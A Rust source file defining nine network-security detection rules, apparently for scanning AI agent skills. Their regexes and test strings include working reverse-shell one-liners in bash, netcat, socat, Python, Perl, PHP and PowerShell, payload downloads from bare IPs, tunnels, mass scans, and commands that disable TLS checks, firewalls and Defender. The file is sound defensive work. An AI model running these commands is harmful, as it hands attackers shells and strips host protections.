//! Network: reverse shells, tunnels, listeners and weakened transport security.

use crate::guard::rule::{Category, Matcher, Rule, Severity};

pub const RULES: &[Rule] = &[
    Rule {
        id: "NET001",
        category: Category::Network,
        severity: Severity::Critical,
        message: "Reverse shell over /dev/tcp",
        explanation: "Detects an interactive shell wired to bash's `/dev/tcp` or `/dev/udp` pseudo-devices (`bash -i >& /dev/tcp/host/port 0>&1` and the file-descriptor variants). It hands a remote attacker a shell with the user's rights. Instead, there is no legitimate use in a skill; a port check needs only `</dev/tcp/host/port` without a shell attached.",
        matcher: Matcher::Text(
            r#"(?i)\b(?:ba|z|k|da|c|tc)?sh\s+-i\b[^\n]*?/dev/(?:tcp|udp)/|/dev/(?:tcp|udp)/[^\s/]+/\d+\s*(?:0>&1|0<&\d|<&\d|>&\d)|\bexec\s+\d+<>\s*/dev/(?:tcp|udp)/[^\n]*?(?:\b(?:ba)?sh\b|<&\d+\s*>&\d+|2>&\d+\s*>&\d+)"#,
        ),
        fires: &[
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196",
            "exec 5<>/dev/tcp/203.0.113.7/80; cat <&5 | while read l; do $l 2>&5 >&5; done",
        ],
        passes: &[
            "timeout 1 bash -c \"</dev/tcp/localhost/5432\" && echo up",
            "exec 3<>/dev/tcp/example.com/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3",
        ],
    },
    Rule {
        id: "NET002",
        category: Category::Network,
        severity: Severity::Critical,
        message: "Netcat or socat attaches a shell to a socket",
        explanation: "Detects netcat/ncat with `-e`, `-c` or `--exec`, socat with an `exec:`/`system:` shell address, and the mkfifo or double-netcat relays that pipe a shell through a connection. These are bind and reverse shells. Instead, there is no legitimate use in a skill; use the service's own client for network access.",
        matcher: Matcher::Text(
            r#"(?i)\b(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd)\b[^\n|;&]*?\s(?:-e|-c|--exec|--sh-exec|--lua-exec)\s+["']?\S|\bsocat\b[^\n]*?\b(?:exec|system):[^\n]*?\b(?:sh|bash|zsh|cmd|powershell|pwsh)\b|\bmkfifo\b[^\n]*?\|\s*(?:/bin/)?(?:ba|z)?sh\b[^\n]*?\|\s*(?:nc|ncat|netcat|openssl)\b|\|\s*(?:nc|ncat|netcat)\b[^\n|]*?\|\s*(?:/bin/)?(?:ba|z)?sh\b"#,
        ),
        fires: &[
            "nc -e /bin/sh 1.2.3.4 9001",
            "ncat 203.0.113.5 443 --ssl -e /bin/bash",
            "socat tcp:203.0.113.5:4444 exec:'bash -li',pty,stderr,setsid",
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f",
        ],
        passes: &[
            "nc -zv db.internal 5432",
            "nc -z localhost 8080 && echo -e \"ready\"",
            "socat TCP-LISTEN:8080,fork TCP:localhost:80",
        ],
    },
    Rule {
        id: "NET003",
        category: Category::Network,
        severity: Severity::Critical,
        message: "Reverse shell written in a scripting language",
        explanation: "Detects the usual reverse-shell one-liners of Python (`os.dup2(s.fileno(), 0)`), Perl (`use Socket` + `exec /bin/sh`), PHP (`fsockopen` + exec), Ruby (`TCPSocket` + exec), PowerShell (`TCPClient` + `iex`) and Node (`net.Socket` + spawn sh). They give a remote attacker a shell. Instead, there is no legitimate use in a skill.",
        matcher: Matcher::Text(
            r#"(?i)\bos\.dup2\s*\(\s*[\w.]+\.fileno\(\)\s*,\s*[012]\s*\)|\buse\s+Socket\s*;[^\n]*?\bexec\s*\(?\s*["'](?:/bin/)?(?:ba)?sh|\bfsockopen\s*\([^\n]*?\b(?:exec|shell_exec|system|passthru|proc_open|popen)\s*\(|\bTCPSocket\.(?:new|open)\b[^\n]*?\b(?:exec|spawn|system|IO\.popen)\b|\bNew-Object\s+(?:System\.)?Net\.Sockets\.TCPClient\b[^\n]*?\b(?:iex|Invoke-Expression)\b|\bnet\.Socket\s*\(\s*\)[^\n]*?\bspawn\s*\(\s*["'](?:/bin/)?(?:ba)?sh|\bsocket\.socket\s*\([^\n]*?\bsubprocess\.(?:call|Popen|run)\s*\(\s*\[\s*["'](?:/bin/)?(?:ba)?sh"#,
        ),
        fires: &[
            "python -c 'import socket,os;s=socket.socket();s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1)'",
            "perl -e 'use Socket;$i=\"10.0.0.1\";socket(S,PF_INET,SOCK_STREAM,0);connect(S,$a);exec(\"/bin/sh -i\");'",
            "php -r '$s=fsockopen(\"10.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
            "$c = New-Object System.Net.Sockets.TCPClient('10.0.0.1',4444);$s = $c.GetStream();iex $d",
        ],
        passes: &[
            "s = socket.socket(); s.connect((\"localhost\", 8080))",
            "os.dup2(log_fd, 2)",
            "Test-NetConnection -ComputerName example.com -Port 443",
        ],
    },
    Rule {
        id: "NET004",
        category: Category::Network,
        severity: Severity::Medium,
        message: "Opens a tunnel that exposes the machine to the internet",
        explanation: "Detects ngrok, cloudflared tunnels, `ssh -R` remote forwards, localtunnel, serveo, localhost.run, chisel, frp and bore. A tunnel publishes a local port to the internet, which also lets an outsider reach the user's machine. Webhook development uses them legitimately, so the rule is medium; instead, run tunnels only when the user asks and stop them afterwards.",
        matcher: Matcher::Text(
            r#"(?i)\bngrok\s+(?:http|tcp|tls|start)\b|\bcloudflared\s+(?:tunnel|access\s+tcp)\b|\bssh\s+[^\n]*?\s-R\s*(?:\d|\[|[\w.-]+:\d)|\b(?:serveo\.net|localhost\.run|pinggy\.io|localtunnel\.me|loca\.lt)\b|\blt\s+--port\b|\bchisel\s+(?:client|server)\b|\bfrpc\b|\bbore\s+local\b"#,
        ),
        fires: &[
            "ngrok http 3000",
            "ssh -N -R 8080:localhost:22 relay@203.0.113.9",
            "ssh -R 80:localhost:3000 serveo.net",
            "cloudflared tunnel --url http://localhost:8000",
        ],
        passes: &[
            "ssh -L 5432:localhost:5432 db-bastion",
            "ngrok is not installed by default.",
        ],
    },
    Rule {
        id: "NET005",
        category: Category::Network,
        severity: Severity::Medium,
        message: "URL with a hard-coded public IP address",
        explanation: "Detects URLs whose host is a literal public IPv4 address (loopback, 10/8, 192.168/16, 172.16/12-style private and link-local ranges are skipped). Payload hosts and command-and-control servers are often bare IPs, because they have no domain to register or lose. Instead, use a documented hostname of the service the skill talks to.",
        matcher: Matcher::Text(
            r#"(?im)\b(?:https?|ftp|tcp|udp|wss?|rtsp)://(?:[1-9]|1[1-9]|[2-9]\d|1[01]\d|12[0-6]|12[89]|1[3-5]\d|16[0-8]|17[01]|17[3-9]|18\d|19[013-9]|2[0-4]\d|25[0-5])\.(?:25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)\.(?:25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)\.(?:25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(?::\d{1,5})?(?:[/\s"'`)>?#]|$)"#,
        ),
        fires: &[
            "curl http://45.33.32.156/payload.sh -o /tmp/p",
            "wget https://185.199.110.9:8443/a",
            "ws://91.108.4.1/feed",
        ],
        passes: &[
            "http://127.0.0.1:8080/health",
            "http://192.168.1.10/api",
            "http://10.0.0.5:9000",
            "https://registry.npmjs.org/",
        ],
    },
    Rule {
        id: "NET006",
        category: Category::Network,
        severity: Severity::Medium,
        message: "Runs a network scanner",
        explanation: "Detects nmap, masscan, zmap, rustscan and unicornscan invoked with options or a target. Scanning networks the user does not own is illegal in many places and trips intrusion detection. Instead, scan only hosts the user names explicitly, and say so in the skill.",
        matcher: Matcher::Text(
            r#"(?i)\b(?:nmap|masscan|zmap|rustscan|unicornscan)\s+(?:-|\d|[a-z0-9-]+\.[a-z0-9])"#,
        ),
        fires: &[
            "nmap -sV -p- 10.0.0.0/24",
            "masscan 0.0.0.0/0 -p22 --rate 100000",
        ],
        passes: &[
            "brew install nmap",
            "nmap is a network scanner.",
        ],
    },
    Rule {
        id: "NET007",
        category: Category::Network,
        severity: Severity::Medium,
        message: "Netcat listens for incoming connections",
        explanation: "Detects `nc -l`, `ncat -l` and combined forms such as `nc -lvnp 4444`. An open netcat listener accepts anything from the network and is the catching end of reverse shells. Instead, use a proper server with authentication if the skill needs to receive data.",
        matcher: Matcher::Text(r#"(?i)\b(?:nc|ncat|netcat)\s+(?:-[a-z0-9]+\s+)*-[a-z]*l[a-z]*\b"#),
        fires: &[
            "nc -lvnp 4444",
            "ncat -l 8080 --keep-open",
        ],
        passes: &[
            "nc -zv host 22",
            "nc -z -w1 localhost 8080",
        ],
    },
    Rule {
        id: "NET008",
        category: Category::Network,
        severity: Severity::Medium,
        message: "Disables TLS certificate verification",
        explanation: "Detects `curl -k`/`--insecure`, `wget --no-check-certificate`, `verify=False`, `NODE_TLS_REJECT_UNAUTHORIZED=0`, `rejectUnauthorized: false`, `PYTHONHTTPSVERIFY=0`, git `sslVerify false`, npm `strict-ssl false`, unverified SSL contexts and `InsecureSkipVerify`. Without verification anyone on the path can impersonate the server and feed the skill code or steal its tokens. Instead, fix the trust store or pass the right CA bundle.",
        matcher: Matcher::Text(
            r#"(?im)\bcurl\b[^\n|;&]*?\s(?:-[a-zA-Z]*k[a-zA-Z]*|--insecure)(?:\s|$)|\bwget\b[^\n|;&]*?--no-check-certificate\b|\bverify\s*=\s*False\b|\bNODE_TLS_REJECT_UNAUTHORIZED\s*=\s*["']?0|\brejectUnauthorized\s*:\s*false\b|\bPYTHONHTTPSVERIFY\s*=\s*["']?0|\bhttp\.sslVerify\s*[= ]\s*false\b|\bstrict-ssl\s*[= ]\s*false\b|\bssl\._create_unverified_context\b|\bInsecureSkipVerify\s*:\s*true\b|\bGIT_SSL_NO_VERIFY\s*=\s*["']?(?:1|true)"#,
        ),
        fires: &[
            "curl -sk https://internal.example.com/install.sh -o i.sh",
            "requests.get(url, verify=False)",
            "export NODE_TLS_REJECT_UNAUTHORIZED=0",
            "git config --global http.sslVerify false",
        ],
        passes: &[
            "curl -fsSL https://example.com/a.json",
            "requests.get(url, verify=\"/etc/ssl/certs/ca.pem\")",
            "curl -H \"X-Key: 1\" -o out.txt https://example.com",
        ],
    },
    Rule {
        id: "NET009",
        category: Category::Network,
        severity: Severity::High,
        message: "Disables the firewall or a host security control",
        explanation: "Detects `ufw disable`, flushing iptables or setting INPUT to ACCEPT, stopping firewalld, AppArmor, auditd or EDR agents, `setenforce 0`, turning off the Windows firewall or Defender, Defender exclusions, `spctl --master-disable` and `csrutil disable`. Removing these protections is preparation for an attack. Instead, open only the specific port a service needs and leave the rest of the protection on.",
        matcher: Matcher::Text(
            r#"(?i)\bufw\s+disable\b|\biptables\s+(?:-t\s+\w+\s+)?-F\b|\biptables\s+-P\s+INPUT\s+ACCEPT\b|\bsystemctl\s+(?:stop|disable|mask)\s+(?:--now\s+)?(?:firewalld|ufw|apparmor|auditd|falcon-sensor|osqueryd)\b|\bsetenforce\s+0\b|\bnetsh\s+(?:advfirewall\s+set\s+\w+\s+state\s+off|firewall\s+set\s+opmode\s+(?:mode=)?disable)|\bSet-MpPreference\b[^\n]*?-Disable\w+\s+\$?(?:true|1)\b|\bAdd-MpPreference\b[^\n]*?-Exclusion(?:Path|Process|Extension)\b|\bspctl\s+--master-disable\b|\bcsrutil\s+disable\b"#,
        ),
        fires: &[
            "sudo ufw disable",
            "iptables -F",
            "Set-MpPreference -DisableRealtimeMonitoring $true",
            "netsh advfirewall set allprofiles state off",
        ],
        passes: &[
            "sudo ufw allow 443/tcp",
            "iptables -L -n",
            "getenforce",
        ],
    },
];
